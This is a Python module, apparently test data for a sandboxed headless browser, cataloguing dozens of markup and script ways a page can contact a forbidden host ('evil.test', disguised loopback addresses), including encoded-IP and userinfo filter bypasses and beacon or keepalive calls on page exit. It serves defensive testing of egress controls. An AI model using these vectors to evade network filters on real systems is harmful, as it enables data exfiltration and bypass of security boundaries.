"""Ways by which a page may try to reach a server that it must not reach.

In a way, ``@H`` stands for the forbidden host and port, ``@U``, ``@S`` and ``@W`` for URLs there (http, https, ws),
``@T`` for a path of the allowed site that redirects there with the status that is written behind it, ``@N`` for a path
that names the way.
"""

import re
from collections.abc import Collection
from typing import Final

import attrs


@attrs.frozen
class Way:
    """One way out: markup or script for a page, tried together with others or alone."""

    name: str
    text: str
    host: str = ""
    """What the wall is asked for; a name of the way's own, if not said."""

    @property
    def asked(self) -> str:
        """Return the host that the wall is asked for."""
        return self.host or f"v-{self.name}.evil.test"

    def has_arrived(self, reached: Collection[str]) -> bool:
        """Return True if the forbidden server has received it."""
        return self.name in reached or self.host in reached

    def fill(self, text: str, port: int) -> str:
        """Insert names and ports into a text of the way."""
        host = f"v-{self.name}.evil.test:{port}"
        text = re.sub(r"@T(\d+)", rf"/to/\1/{self.name}", text)
        for mark, value in (
            ("@U", f"http://{host}/@N"),
            ("@S", f"https://{host}/@N"),
            ("@W", f"ws://{host}/@N"),
            ("@H", host),
            ("@P", str(port)),
            ("@N", f"v-{self.name}/"),
        ):
            text = text.replace(mark, value)
        return text


def _ways(table: dict[str, str]) -> tuple[Way, ...]:
    return tuple(Way(name, text) for name, text in table.items())


MARKUP: Final = (
    *_ways(
        {
            "img": '<img src="@U">',
            "srcset": '<img srcset="@U 1x">',
            "picture": '<picture><source srcset="@U"><img></picture>',
            "script": '<script src="@U"></script>',
            "script-async": '<script async src="@U"></script>',
            "module": '<script type=module src="@U"></script>',
            "css": '<link rel=stylesheet href="@U">',
            "css-import": '<style>@import "@U";</style>',
            "css-background": '<p style="background:url(@U)">x</p>',
            "css-cursor": '<p style="cursor:url(@U),auto">x</p>',
            "css-list": '<ul><li style="list-style-image:url(@U)">x</ul>',
            "css-content": '<style>#c::before{content:url("@U")}</style><p id=c>x',
            "css-border": '<p style="border:9px solid;border-image:url(@U) 9">x</p>',
            "css-mask": '<p style="mask-image:url(@U)">x</p>',
            "font": '<style>@font-face{font-family:f;src:url("@U")}</style><p style="font-family:f">x</p>',
            "iframe": '<iframe src="@U"></iframe>',
            "frame-srcdoc": "<iframe srcdoc='<img src=\"@U\">'></iframe>",
            "frame-data": "<iframe src='data:text/html,<img src=\"@U\">'></iframe>",
            "frame-sandbox": '<iframe sandbox="allow-scripts" src="@U"></iframe>',
            "object": '<object data="@U" type="text/html"></object>',
            "embed": '<embed src="@U" type="text/html">',
            "video": '<video src="@U" preload=auto></video>',
            "audio": '<audio src="@U" preload=auto></audio>',
            "source": '<video preload=auto><source src="@U"></video>',
            "poster": '<video poster="@U"></video>',
            "track": '<video crossorigin><track default kind=captions src="@U"></video>',
            "svg-image": '<svg><image href="@U" width=9 height=9></svg>',
            "svg-feimage": '<svg><filter id=f><feImage href="@U"/></filter><path filter="url(#f)" d="M0 0h9v9"/></svg>',
            "input": '<input type=image src="@U">',
            "background": '<table background="@U"><td>x</table>',
            "favicon": '<link rel=icon href="@U">',
            "manifest": '<link rel=manifest href="@U">',
            "preload": '<link rel=preload as=image href="@U">',
            "preload-fetch": '<link rel=preload as=fetch crossorigin href="@U">',
            "modulepreload": '<link rel=modulepreload href="@U">',
            "prefetch": '<link rel=prefetch href="@U">',
            "dns-prefetch": '<link rel=dns-prefetch href="@U">',
            "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["@S"]}]}</script>',
            "protocol-relative": '<img src="//@H/@N">',
            "backslash": '<img src="http:\\\\@H\\@N">',
            "upper": '<img src="HTTP://V-UPPER.EVIL.TEST:@P/@N">',
            "percent": '<img src="http://v%2Dpercent.evil%2etest:@P/@N">',
            "soft-hyphen": '<img src="http://v-soft\u00ad-hyphen.evil.test:@P/@N">',
            "full-width": '<img src="http://v-full-width\uff0eevil\u3002test:@P/@N">',
            "http-on-https": '<img src="@S">',
            "redirect-img-301": '<img src="@T301">',
            "redirect-css-302": '<link rel=stylesheet href="@T302">',
            "redirect-script-303": '<script src="@T303"></script>',
            "redirect-frame-307": '<iframe src="@T307"></iframe>',
            "redirect-video-308": '<video src="@T308" preload=auto></video>',
            "frame-refresh": "<iframe srcdoc='<meta http-equiv=refresh content=\"0;url=@U\">'></iframe>",
            "frame-form": "<iframe srcdoc='<form id=f action=\"@U\"></form><script>f.submit()</script>'></iframe>",
            "frame-location": "<iframe srcdoc='<script>location=\"@U\"</script>'></iframe>",
        }
    ),
    Way("trailing-dot", '<img src="http://v-trailing-dot.evil.test.:@P/@N">', "v-trailing-dot.evil.test."),
    Way("wild", '<img src="http://v-wild.wild.test:@P/@N">', "v-wild.wild.test"),
    Way("suffix", '<img src="http://localhost.v-suffix.evil.test:@P/@N">', "localhost.v-suffix.evil.test"),
    Way("other-port", '<img src="http://localhost:@P/@N">', "localhost"),
    Way("subdomain", '<img src="http://x.localhost:@P/@N">', "x.localhost"),
    Way("preconnect", '<link rel=preconnect href="http://127.0.0.31:@P/">', "127.0.0.31"),
    Way("address", '<img src="http://127.0.0.32:@P/@N">', "127.0.0.32"),
    Way("decimal", '<img src="http://2130706465:@P/@N">', "127.0.0.33"),
    Way("hex", '<img src="http://0x7f000022:@P/@N">', "127.0.0.34"),
    Way("octal", '<img src="http://0177.0.0.043:@P/@N">', "127.0.0.35"),
    Way("short", '<img src="http://127.36:@P/@N">', "127.0.0.36"),
    Way("mixed", '<img src="http://0x7f.0.37:@P/@N">', "127.0.0.37"),
    Way("digits", '<img src="http://\uff11\uff12\uff17.0.0.\u2463\u2460:@P/@N">', "127.0.0.41"),
    Way("mapped", '<img src="http://[::ffff:127.0.0.39]:@P/@N">', "[::ffff:7f00:27]"),
    Way("ipv6", '<img src="http://[::1]:@P/@N">', "[::1]"),
)

SCRIPT: Final = (
    *_ways(
        {
            "fetch": 'fetch("@U")',
            "fetch-no-cors": 'fetch("@U", {mode: "no-cors"})',
            "fetch-post": 'fetch("@U", {method: "POST", body: "x"})',
            "fetch-keepalive": 'fetch("@U", {keepalive: true})',
            "fetch-https": 'fetch("@S")',
            "fetch-redirect-307": 'fetch("@T307", {method: "POST", body: "x"})',
            "fetch-redirect-308": 'fetch("@T308")',
            "xhr": 'const x = new XMLHttpRequest(); x.open("GET", "@U"); x.send()',
            "xhr-sync": 'const x = new XMLHttpRequest(); x.open("GET", "@U", false); x.send()',
            "beacon": 'navigator.sendBeacon("@U", "x")',
            "eventsource": 'new EventSource("@U")',
            "websocket": 'new WebSocket("@W")',
            "websocket-tls": 'new WebSocket("wss://@H/@N")',
            "import": 'import("@U")',
            "image": 'new Image().src = "@U"',
            "font-face": 'new FontFace("g", "url(@U)").load()',
            "audio-worklet": 'new OfflineAudioContext(1, 9, 44100).audioWorklet.addModule("@U")',
            "paint-worklet": 'CSS.paintWorklet.addModule("@U")',
            "frame-blob": 'frame(URL.createObjectURL(new Blob([\'<img src="@U">\'], {type: "text/html"})))',
            "frame-script": "frame('javascript:\\'<img src=\"@U\">\\'')",
            "ping": 'const a = Object.assign(document.createElement("a"), {href: "#", ping: "@U"}); a.click()',
            "worker-fetch": "worker('fetch(\"@U\")')",
            "worker-import": "worker('importScripts(\"@U\")')",
            "worker-socket": "worker('new WebSocket(\"@W\")')",
            "worker-events": "worker('new EventSource(\"@U\")')",
            "worker-xhr": 'worker(\'const x = new XMLHttpRequest(); x.open("GET", "@U"); x.send()\')',
            "worker-nested": "worker(`new Worker(URL.createObjectURL(new Blob(['fetch(\"@U\")'])))`)",
            "worker-module": "new Worker(blob('import \"@U\"'), {type: 'module'})",
            "shared-fetch": "shared('fetch(\"@U\")')",
            "shared-socket": "shared('new WebSocket(\"@W\")')",
            "service-fetch": "service('@N', 'fetch(\"@U\", {mode: \"no-cors\"})')",
            "service-socket": "service('@N', 'new WebSocket(\"@W\")')",
            "service-import": "service('@N', 'importScripts(\"@U\")')",
            "popup-img": 'open("").document.write(\'<img src="@U">\')',
        }
    ),
    Way("webrtc-turn", 'rtc("turn:127.0.0.42:@P?transport=tcp")', "127.0.0.42"),
    Way("webrtc-stun", 'rtc("stun:127.0.0.1:@P")', "udp"),
    Way("webtransport", 'new WebTransport("https://127.0.0.1:@P/")', "udp"),
)

ALONE: Final = (
    *_ways(
        {
            "page-301": "@T301",
            "page-302": "@T302",
            "page-303": "@T303",
            "page-307": "@T307",
            "page-308": "@T308",
            "meta-refresh": '<meta http-equiv=refresh content="0;url=@U">',
            "location": '<script>location = "@U"</script>',
            "location-assign": '<script>onload = () => location.assign("@U")</script>',
            "location-replace": '<script>location.replace("@U")</script>',
            "location-redirect": '<script>location = "@T302"</script>',
            "navigation-api": '<script>onload = () => navigation.navigate("@U")</script>',
            "frame-top": "<iframe srcdoc='<script>top.location=\"@U\"</script>'></iframe>",
            "form-get": '<form action="@U"></form><script>document.forms[0].submit()</script>',
            "form-post": '<form method=post action="@U"></form><script>document.forms[0].submit()</script>',
            "form-307": '<form method=post action="@T307"></form><script>document.forms[0].submit()</script>',
            "form-blank": '<form target=_blank action="@U"></form><script>document.forms[0].submit()</script>',
            "formaction": '<form><button id=b formaction="@U">b</button></form><script>b.click()</script>',
            "userinfo": '<script>location = "http://user:secret@@H/@N"</script>',
            "userinfo-allowed": '<script>location = "http://localhost:80@@H/@N"</script>',
            "base": '<base href="http://@H/"><a id=a href="@N">a</a><script>a.click()</script>',
            "link": '<a id=a href="@U">a</a><script>a.click()</script>',
            "link-blank": '<a id=a target=_blank href="@U">a</a><script>a.click()</script>',
            "link-noopener": '<a id=a target=_blank rel=noopener href="@U">a</a><script>a.click()</script>',
            "link-svg": '<svg><a id=a href="@U">a</a></svg><script>a.dispatchEvent(new MouseEvent("click"))</script>',
            "area": '<map><area id=a href="@U"></map><script>a.click()</script>',
            "download": '<a id=a download href="@U">a</a><script>a.click()</script>',
            "download-redirect": '<a id=a download href="@T302">a</a><script>a.click()</script>',
            "window-open": '<script>open("@U")</script>',
            "window-open-redirect": '<script>open("@T302")</script>',
            "window-open-later": '<script>const w = open("about:blank"); w.location = "@U"</script>',
            "unload-fetch": '<script>onpagehide = () => fetch("@U", {keepalive: true, mode: "no-cors"})</script>',
            "unload-beacon": '<script>onpagehide = () => navigator.sendBeacon("@U", "x")</script>',
            "csp-report-uri": "<script>1</script>",
            "report-to": "<script>1</script>",
            "refresh-header": "<p>x",
            "link-preload": "<p>x",
        }
    ),
    Way("zero", '<script>location = "http://0.0.0.0:@P/@N"</script>', "0.0.0.0"),
)

HEADERS: Final = {
    "csp-report-uri": ("Content-Security-Policy", "script-src 'none'; report-uri @U"),
    "report-to": ("Reporting-Endpoints", 'e="@S"', "Content-Security-Policy", "script-src 'none'; report-to e"),
    "refresh-header": ("Refresh", "0;url=@U"),
    "link-preload": ("Link", "<@U>; rel=preload; as=image"),
}
"""Headers of the pages of some of the ways that are tried alone."""

SILENT: Final = frozenset(("favicon", "manifest", "dns-prefetch", "preconnect", "report-to"))
"""Ways that the headless shell does not take at all, or that leave no trace."""
MUTE: Final = SILENT | {"webrtc-stun", "webtransport", "speculation"}
"""Ways that are not even tried behind the wall: UDP, and prefetching through a proxy."""

PROLOGUE: Final = """<script>
  const blob = text => URL.createObjectURL(new Blob([text], {type: "text/javascript"}));
  const frame = src => { const made = document.createElement("iframe"); made.src = src; document.body.append(made) };
  const worker = text => new Worker(blob(text));
  const shared = text => new SharedWorker(blob(text));
  const service = (name, text) =>
    navigator.serviceWorker.register(`/service?${encodeURIComponent(text)}`, {scope: `/${name}`});
  const rtc = urls => {
    const peer = new RTCPeerConnection({iceServers: [{urls, username: "u", credential: "c"}]});
    peer.createDataChannel("x");
    peer.createOffer().then(offer => peer.setLocalDescription(offer));
  };
</script>
<body>"""
